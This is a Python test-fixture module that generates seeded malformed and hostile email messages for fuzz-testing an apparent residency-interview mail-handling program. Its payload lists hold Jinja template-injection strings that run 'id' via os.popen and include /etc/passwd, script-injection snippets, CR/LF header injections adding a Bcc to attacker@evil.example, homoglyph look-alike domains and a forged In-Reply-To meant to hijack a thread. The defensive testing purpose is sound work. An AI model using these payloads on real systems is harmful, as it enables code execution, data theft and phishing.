"""A seeded generator of malformed and adversarial mail, for the hostile-input tests.

``corpus(count, seed)`` returns raw RFC 5322-ish byte strings, none from a program's domain
(look-alike domains aside), covering: random MIME trees, wrong or missing charsets, 8-bit
headers, deeply nested multiparts, huge bodies and attachments, thousands of recipients,
CR/LF injection in subjects and display names, Jinja syntax and HTML/script in bodies and
names, look-alike Unicode in addresses, broken encoded words, bad dates and truncation.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable

ME = "Jordan Rivera <jordan.rivera@med.example.edu>"
TEMPLATE_BITS = [
    "{{ 7*7 }}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{{ applicant.email }}",
    "{# comment #}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% raw %}",
    "}}{{",
]
HTML_BITS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<style>body{display:none}</style>",
    "<!--[if IE]><script>x()</script><![endif]-->",
    "</body></html><html><body>",
]
INJECTIONS = [
    "Hello\r\nBcc: attacker@evil.example",
    "Hi\nX-Residency-Agent: thank-you:fake",
    "Re: x\r\n\r\n<html>body</html>",
    "=?utf-8?q?Inject=0D=0ABcc=3A_attacker=40evil=2Eexample?=",
    "Subject\x00with\x00nul",
    "=?utf-8?q?=3D=3Futf-8=3Fq=3F=3D0D=3D0ABcc=3A=5Fattacker=3D40evil=3D2Eexample=3F=3D?=",
    "tab\tand\x1bescape",
]
# Look-alikes of the real programs' domains and of the applicant's address.
LOOKALIKES = [
    "coordinator@lakesidem\u0435d.org",  # Cyrillic e
    "pnatarajan@lakesidemed.org.evil.example",
    "gme@r\u0456versidehealth.org",  # Cyrillic i
    "alopez@bayviewhospita\u04cf.org",
    "jordan.rivera@med.example.edu\u200b",
    "\u202eorg.demedisekal@evil.example",
    "hsato@riversidehealth\u3002org",  # ideographic full stop
]
CHARSETS = ["utf-8", "iso-8859-1", "koi8-r", "x-unknown-charset", "utf-7", "", "utf-16", "bogus"]
WORDS = [
    "interview",
    "residency",
    "schedule",
    "parking",
    "thank",
    "you",
    "program",
    "details",
    "agenda",
]


def _text(rng: random.Random, n: int = 40) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(n))


def _hostile_text(rng: random.Random) -> str:
    parts = [_text(rng, rng.randint(1, 30))]
    for _ in range(rng.randint(1, 4)):
        parts.append(rng.choice(TEMPLATE_BITS + HTML_BITS + INJECTIONS))
    rng.shuffle(parts)
    return " ".join(parts)


def _sender(rng: random.Random, n: int) -> str:
    kind = rng.randrange(5)
    if kind == 0:
        return f'"{rng.choice(TEMPLATE_BITS)}" <x{n}@spam.example>'
    if kind == 1:
        return f"{rng.choice(INJECTIONS)} <y{n}@spam.example>"
    if kind == 2:
        return f"Coordinator <{rng.choice(LOOKALIKES)}>"
    if kind == 3:
        return f'"{rng.choice(HTML_BITS)}" <z{n}@lists.example>'
    return rng.choice(["", "<>", "@@@", "undisclosed-recipients:;", "a@b@c", "\xff\xfe@x"])


def _headers(rng: random.Random, n: int, extra: list[str]) -> bytes:
    lines = [
        f"From: {_sender(rng, n)}",
        f"To: {ME}",
        f"Subject: {_hostile_text(rng)[:300]}",
        rng.choice(
            [
                "Date: Mon, 02 Nov 2026 10:00:00 -0600",
                "Date: not a date",
                "Date: Thu, 31 Feb 2026 99:99:99 +9999",
                "Date: ",
                "Date: Mon, 02 Nov 10000 10:00:00 -0600",
            ]
        ),
        f"Message-ID: <hostile-{n}@spam.example>"
        if rng.random() < 0.8
        else rng.choice(["Message-ID: ", "Message-ID: no-brackets", "Message-ID: <a b>"]),
        *extra,
    ]
    if rng.random() < 0.3:
        lines.append("In-Reply-To: <post-1006@bayviewhospital.org>")  # hijack a real thread
    if rng.random() < 0.2:
        lines.append("References: " + " ".join(f"<r{i}@x>" for i in range(rng.randint(1, 500))))
    raw = "\r\n".join(lines).encode("utf-8", "surrogateescape")
    if rng.random() < 0.3:  # 8-bit bytes straight in the headers
        raw += b"\r\nX-Eight-Bit: caf\xe9 \xff\xfe na\xefve"
        raw += b"\r\nSubject: =?bogus?B?////?= \xc3\x28"
    return raw + b"\r\n"


def _leaf(rng: random.Random, size: int = 0) -> bytes:
    charset = rng.choice(CHARSETS)
    ctype = rng.choice(["text/plain", "text/html", "application/octet-stream", "text/calendar"])
    cte = rng.choice(["7bit", "8bit", "base64", "quoted-printable", "x-uuencode", "bogus"])
    body_text = _hostile_text(rng) + ("\n" + _text(rng, 200)) * (size // 1500 + 1)
    if ctype == "text/html":
        body_text = f"<html><body><p>{body_text}</p>{rng.choice(HTML_BITS)}</body></html>"
    data = body_text.encode("latin-1" if charset == "iso-8859-1" else "utf-8", "replace")
    if cte == "base64":
        data = base64.encodebytes(data) if rng.random() < 0.8 else b"!!!not base64!!!"
    head = f"Content-Type: {ctype}" + (f'; charset="{charset}"' if charset else "")
    head += f"\r\nContent-Transfer-Encoding: {cte}"
    if rng.random() < 0.2:
        head += '\r\nContent-Disposition: attachment; filename="{{ evil }}.exe"'
    return head.encode() + b"\r\n\r\n" + data + b"\r\n"


def _tree(rng: random.Random, depth: int, max_depth: int) -> bytes:
    if depth >= max_depth or rng.random() < 0.3:
        return _leaf(rng)
    boundary = f"b{depth}x{rng.randrange(10**6)}"
    if rng.random() < 0.1:
        boundary = ""  # a multipart with no boundary
    kind = rng.choice(["mixed", "alternative", "related", "signed", "digest"])
    out = [f'Content-Type: multipart/{kind}; boundary="{boundary}"\r\n\r\npreamble\r\n'.encode()]
    for _ in range(rng.randint(0, 4)):
        out.append(f"--{boundary}\r\n".encode() + _tree(rng, depth + 1, max_depth))
    if rng.random() < 0.8:  # sometimes the closing boundary is missing
        out.append(f"--{boundary}--\r\n".encode())
    return b"".join(out)


def _random_mime(rng: random.Random, n: int) -> bytes:
    return _headers(rng, n, ["MIME-Version: 1.0"]) + _tree(rng, 0, rng.randint(1, 6))


def _deep_nesting(rng: random.Random, n: int) -> bytes:
    depth = rng.randint(50, 400)
    parts = [
        f'Content-Type: multipart/mixed; boundary="d{i}"\r\n\r\n--d{i}\r\n'.encode()
        for i in range(depth)
    ]
    leaf = _leaf(rng)
    tail = b"".join(f"\r\n--d{i}--\r\n".encode() for i in reversed(range(depth)))
    return _headers(rng, n, ["MIME-Version: 1.0"]) + b"".join(parts) + leaf + tail


def _huge(rng: random.Random, n: int) -> bytes:
    size = rng.choice([1, 3, 6]) * 1024 * 1024
    blob = base64.encodebytes(rng.randbytes(size // 2))
    body = (
        b'Content-Type: multipart/mixed; boundary="h"\r\n\r\n--h\r\n'
        + b"Content-Type: text/plain\r\n\r\n"
        + (_text(rng, 100).encode() + b"\n") * (size // 2000)
        + b"\r\n--h\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
        + b'Content-Disposition: attachment; filename="big.pdf"\r\n\r\n'
        + blob
        + b"\r\n--h--\r\n"
    )
    return _headers(rng, n, ["MIME-Version: 1.0"]) + body


def _many_recipients(rng: random.Random, n: int) -> bytes:
    count = rng.randint(1000, 6000)
    to = ", ".join(f'"R{i} {{{{x}}}}" <r{i}@list{i % 50}.example>' for i in range(count))
    raw = _headers(rng, n, [f"Cc: {to}", f"Bcc: {to[:5000]}"])
    return raw.replace(f"To: {ME}".encode(), f"To: {ME}, {to}".encode()) + b"\r\n" + _leaf(rng)


def _garbage(rng: random.Random, n: int) -> bytes:
    choice = rng.randrange(5)
    if choice == 0:
        return rng.randbytes(rng.randint(0, 5000))
    if choice == 1:
        return b""
    if choice == 2:
        return b"\r\n" * rng.randint(1, 100)
    if choice == 3:  # a header block that never ends
        return b"X-Long: " + b"a" * rng.randint(70_000, 200_000)
    return _random_mime(rng, n)[: rng.randint(1, 400)]  # truncated mid-header


def _plain_hostile(rng: random.Random, n: int) -> bytes:
    body = (
        _hostile_text(rng)
        + "\n"
        + "\n".join(rng.choice(TEMPLATE_BITS + HTML_BITS) for _ in range(5))
    )
    charset = rng.choice(CHARSETS)
    extra = ["MIME-Version: 1.0", f"Content-Type: text/plain; charset={charset}"]
    return _headers(rng, n, extra) + b"\r\n" + body.encode("utf-8", "replace")


KINDS: list[Callable[[random.Random, int], bytes]] = [
    _random_mime,
    _random_mime,
    _plain_hostile,
    _plain_hostile,
    _deep_nesting,
    _many_recipients,
    _garbage,
    _garbage,
]


def corpus(count: int, seed: int = 8, huge: int = 3) -> list[bytes]:
    """``count`` hostile messages; ``huge`` of them carry multi-megabyte bodies/attachments."""
    rng = random.Random(seed)
    out = [_huge(rng, n) for n in range(huge)]
    for n in range(huge, count):
        out.append(KINDS[n % len(KINDS)](rng, n))
    return out
